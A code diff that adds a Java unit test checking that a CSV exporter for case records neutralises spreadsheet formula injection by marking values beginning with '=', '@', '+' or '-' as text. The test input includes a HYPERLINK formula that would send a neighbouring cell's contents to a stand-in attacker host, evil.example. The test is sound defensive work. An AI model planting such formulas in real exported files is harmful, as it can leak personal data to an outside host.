@@ -81,6 +81,23 @@ class HtcdsExportRoundTripTest {
   }
 
   @Test
+  void textThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadsBackUnchanged() throws Exception {
+    String formula = "=HYPERLINK(\"http://evil.example/?\"&E2,\"Klik\")";
+    HtcdsCaseRecord hostile =
+        new HtcdsCaseRecord(
+            0, "ngo.caseworker1", "Ms", formula, "@SUM(1+1)", Boolean.TRUE, LocalDate.of(2004, 2, 29), Gender.Feminine, Set.of("RS"), null,
+            null, "+381 11 123", "+381 60 555 0101", "-Bulevar 1", "Beograd", null, null, "RS", null, null, Set.of(), null, Set.of(),
+            EnumSet.of(TypeOfExploitation.ForcedLabour), null, Set.of(), null, CaseStatus.Active, null, null, null, null, "-3", null, null, null, null,
+            null, null);
+    byte[] csv = writer.csv(List.of(hostile));
+    String text = new String(csv, java.nio.charset.StandardCharsets.UTF_8);
+    assertTrue(text.contains(",\"'=HYPERLINK("), "the formula is marked as text: " + text);
+    assertTrue(text.contains(",'@SUM(1+1),"), text);
+    assertTrue(text.contains(",'+381 60 555 0101,"), "a phone number with + would be evaluated too: " + text);
+    assertSameCases(List.of(hostile), TestFiles.reader().read(new ByteArrayInputStream(csv), "export.csv"));
+  }
+
+  @Test
   void fieldsOfACategoryLeftOutAreEmptyInTheFile() throws Exception {
     HtcdsCaseRecord onlySummaryAndIdentity =
         HtcdsSpreadsheetWriter.keepOnly(full(0), c -> c == DataCategory.CASE_SUMMARY || c == DataCategory.IDENTITY);
